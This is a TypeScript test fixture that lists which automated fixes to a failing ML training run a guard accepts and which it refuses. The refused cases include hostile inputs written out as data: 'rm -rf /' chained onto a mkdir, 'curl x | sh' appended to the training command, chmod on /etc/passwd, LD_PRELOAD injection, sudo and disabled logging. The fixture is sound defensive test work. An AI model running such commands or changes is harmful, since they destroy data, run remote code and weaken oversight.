import type { Change } from '../../src/domain/change.js';
import type { ScopeContext } from '../../src/domain/scope.js';
import { shellLine } from '../../src/domain/scope-shell.js';

/** A failure of the config, with what it proves. */
export const CONTEXT: ScopeContext = {
  verdict: 'runtime',
  category: 'config',
  frames: [{ path: '/home/ada/rig/train.py', line: 12 }],
  proven: ['learning_rate', 'lr', '--learning-rte', 'data/trian.csv', 'out/model.pt', 'logs'],
  packages: ['einops', 'opencv-python-headless'],
  batchDependent: false,
  projectRoot: '/home/ada/rig',
  interpreter: 'python3',
  command: 'python3 train.py --lr 0.1 --learning-rte 1',
};

/** A change by what it does, and where it differs from `CONTEXT`. */
export type Case = readonly [name: string, change: Change, context?: Partial<ScopeContext>];

/** A change of a config value. */
export function config(before: string, after: string, file = 'config.yaml'): Change {
  return { kind: 'config-value', file, line: 1, key: 'any', before, after };
}
function line(
  before: string,
  after: string,
  edit:
    | 'removed-alias'
    | 'moved-import'
    | 'map-location'
    | 'path-literal'
    | 'makedirs'
    | 'to-device',
  file = 'train.py',
  at = 12,
): Change {
  return { kind: 'line', file, line: at, before, after, edit };
}
function shell(
  template: 'mkdir' | 'chmod' | 'pip-install' | 'line-endings',
  ...words: string[]
): Change {
  return {
    kind: 'shell',
    template,
    arguments: words,
    command: shellLine(template, words, 'python3'),
  };
}
function command(after: string): Change {
  return { kind: 'command', before: CONTEXT.command, after };
}
function env(name: string, value: string): Change {
  return {
    kind: 'env',
    name,
    value,
    before: CONTEXT.command,
    after: `${name}=${value} ${CONTEXT.command}`,
  };
}

export const ALLOWED: readonly Case[] = [
  [
    'a misspelled key gets its name',
    config('learning_rte: 0.01  # start', 'learning_rate: 0.01  # start'),
  ],
  [
    'the same in JSON on one line',
    config(
      '{"learning_rte": 0.01, "epochs": 3}',
      '{"learning_rate": 0.01, "epochs": 3}',
      'config.json',
    ),
  ],
  [
    'a number in quotes becomes the number',
    config('  "lr": "1e-3",', '  "lr": 1e-3,', 'config.json'),
  ],
  ['a YAML exponent gets its point', config('lr: 1e-4', 'lr: 1.0e-4')],
  [
    'a missing path becomes another',
    config('data: data/trian.csv', 'data: data/train.csv'),
    { category: 'path' },
  ],
  [
    'half the workers for lack of memory',
    config('num_workers: 8', 'num_workers: 4'),
    { category: 'oom' },
  ],
  [
    'half the micro-batch, twice the accumulation',
    config(
      'batch_size: 8\ngradient_accumulation_steps: 2',
      'batch_size: 4\ngradient_accumulation_steps: 4',
    ),
    { category: 'oom' },
  ],
  ['another port', config('master_port: 29500', 'master_port: 29600'), { category: 'distributed' }],
  ['a removed alias', line('x = np.float(3)', 'x = float(3)', 'removed-alias')],
  [
    'a moved import',
    line('from collections import Mapping', 'from collections.abc import Mapping', 'moved-import'),
  ],
  [
    'map_location',
    line(
      'state = torch.load(path)',
      "state = torch.load(path, map_location='cpu')",
      'map-location',
    ),
  ],
  [
    'a path literal',
    line(
      'text = open("data/trian.csv").read()',
      'text = open("data/train.csv").read()',
      'path-literal',
    ),
    { category: 'path' },
  ],
  [
    'one input moved to the device',
    line('out = model(x)', 'out = model(x.to(device))', 'to-device'),
    { category: 'cuda' },
  ],
  [
    'makedirs before the write',
    line(
      'f = open("out/a.txt", "w")',
      'os.makedirs("out", exist_ok=True); f = open("out/a.txt", "w")',
      'makedirs',
    ),
    { category: 'path' },
  ],
  ['a folder for the output', shell('mkdir', 'out'), { category: 'path' }],
  ['a right for the owner', shell('chmod', 'u+w', 'logs'), { category: 'permission' }],
  [
    'a package that the project names',
    shell('pip-install', 'einops==0.6.1'),
    { category: 'dependency' },
  ],
  ['a misspelled flag keeps its value', command('python3 train.py --lr 0.1 --learning-rate 1')],
  ['a variable in front of the command', env('PYTHONPATH', '.'), { category: 'dependency' }],
  ['a question, whatever failed', { kind: 'ask', question: 'Which?' }, { verdict: 'logic' }],
  ['steps, whatever failed', { kind: 'instruct', steps: ['Look.'] }, { verdict: 'unknown' }],
];

export const REFUSED: readonly Case[] = [
  ['anything for a logic failure', shell('mkdir', 'out'), { verdict: 'logic' }],
  ['anything for an unknown failure', shell('mkdir', 'out'), { verdict: 'unknown' }],
  ['anything for a run without failure', shell('mkdir', 'out'), { verdict: 'none' }],
  ['another learning rate', config('lr: 0.1', 'lr: 0.01')],
  ['another learning rate in quotes', config('lr: "0.1"', 'lr: 0.01')],
  ['another optimiser', config('optimizer: adam', 'optimizer: sgd')],
  ['another model', config('model: vit-small', 'model: vit-base'), { category: 'path' }],
  ['another loss', config('loss: mse', 'loss: l1')],
  ['more epochs', config('epochs: 3', 'epochs: 30')],
  ['a smaller batch alone', config('batch_size: 8', 'batch_size: 4'), { category: 'oom' }],
  [
    'a smaller batch, more accumulation than doubled',
    config('batch_size: 8\ngrad_accum: 2', 'batch_size: 4\ngrad_accum: 8'),
    { category: 'oom' },
  ],
  [
    'halving without lack of memory',
    config('batch_size: 8\ngrad_accum: 2', 'batch_size: 4\ngrad_accum: 4'),
  ],
  [
    'halving with batch normalisation',
    config('batch_size: 8\ngrad_accum: 2', 'batch_size: 4\ngrad_accum: 4'),
    { category: 'oom', batchDependent: true },
  ],
  ['a key that the error does not name', config('widht: 3', 'width: 3')],
  ['a renamed key with another value', config('learning_rte: 0.1', 'learning_rate: 0.2')],
  ['two keys at once', config('learning_rte: 1\nx: 2', 'learning_rate: 1\nx: 3')],
  ['a new line in a config', config('a: 1', 'a: 1\nb: 2')],
  ['a config outside the project', config('learning_rte: 1', 'learning_rate: 1', '../other.yaml')],
  ['a Python file as config', config('learning_rte: 1', 'learning_rate: 1', 'config.py')],
  [
    'a path that the error does not name',
    config('data: data/a.csv', 'data: data/b.csv'),
    { category: 'path' },
  ],
  [
    'a line that builds a model',
    line('net = Model(np.float(3))', 'net = Model(float(3))', 'removed-alias'),
  ],
  [
    'a line that builds an optimiser',
    line(
      'opt = torch.optim.Adam(p, np.float(3))',
      'opt = torch.optim.Adam(p, float(3))',
      'removed-alias',
    ),
  ],
  [
    'a line that builds a scheduler',
    line('s = CosineScheduler(np.float(3))', 's = CosineScheduler(float(3))', 'removed-alias'),
  ],
  [
    'a line that builds a loss',
    line(
      'c = nn.CrossEntropyLoss(np.float(1))',
      'c = nn.CrossEntropyLoss(float(1))',
      'removed-alias',
    ),
  ],
  [
    'a line that builds a dataset',
    line('d = ImageFolder("data/trian")', 'd = ImageFolder("data/train")', 'path-literal'),
    { category: 'path' },
  ],
  [
    'a line that builds a transform',
    line('t = transforms.Resize("a/b")', 't = transforms.Resize("a/c")', 'path-literal'),
  ],
  ['an alias edit that does more', line('x = np.float(3)', 'x = float(4)', 'removed-alias')],
  [
    'a line that is not in the traceback',
    line('x = np.float(3)', 'x = float(3)', 'removed-alias', 'train.py', 13),
  ],
  ['a line of another file', line('x = np.float(3)', 'x = float(3)', 'removed-alias', 'model.py')],
  ['two lines', line('x = np.float(3)', 'x = float(3)\ny = 1', 'removed-alias')],
  ['a line of a shell script', line('x = np.float(3)', 'x = float(3)', 'removed-alias', 'run.sh')],
  [
    'map_location with code in it',
    line('s = torch.load(p)', "s = torch.load(p, map_location='cpu'); import os", 'map-location'),
  ],
  ['a folder that the error does not name', shell('mkdir', 'elsewhere'), { category: 'path' }],
  ['a folder that climbs out', shell('mkdir', '../out'), { category: 'path' }],
  ['rights for everybody', shell('chmod', '777', 'logs'), { category: 'permission' }],
  [
    'rights outside the project',
    shell('chmod', 'u+w', '/etc/passwd'),
    { category: 'permission', proven: ['/etc/passwd'] },
  ],
  ['a package that nobody names', shell('pip-install', 'einopss'), { category: 'dependency' }],
  [
    'a package from an address',
    shell('pip-install', 'https://example.org/x.whl'),
    { category: 'dependency' },
  ],
  ['a flag of pip', shell('pip-install', '--pre'), { category: 'dependency' }],
  [
    'a shell line of its own making',
    { kind: 'shell', template: 'mkdir', arguments: ['out'], command: 'mkdir -p -- out; rm -rf /' },
    { category: 'path' },
  ],
  [
    'sudo',
    { kind: 'shell', template: 'mkdir', arguments: ['out'], command: 'sudo mkdir -p -- out' },
    { category: 'path' },
  ],
  ['another learning rate in the command', command('python3 train.py --lr 0.01 --learning-rte 1')],
  ['a new training flag', command('python3 train.py --lr 0.1 --learning-rte 1 --clip 1.0')],
  ['a renamed flag with another value', command('python3 train.py --lr 0.1 --learning-rate=2')],
  [
    'a second command behind the first',
    command('python3 train.py --lr 0.1 --learning-rate 1; curl x | sh'),
  ],
  ['another command as the old one', { kind: 'command', before: 'ls', after: 'ls -l' }],
  ['switching off wandb', env('WANDB_MODE', 'disabled')],
  ['switching off logging', env('DISABLE_LOGGING', '1')],
  ['a secret', env('HF_TOKEN', 'x')],
  ['loading code into every program', env('LD_PRELOAD', './x.so')],
  [
    'a variable that hides a command',
    {
      kind: 'env',
      name: 'A',
      value: '1',
      before: CONTEXT.command,
      after: `A=1 true; ${CONTEXT.command}`,
    },
  ],
];
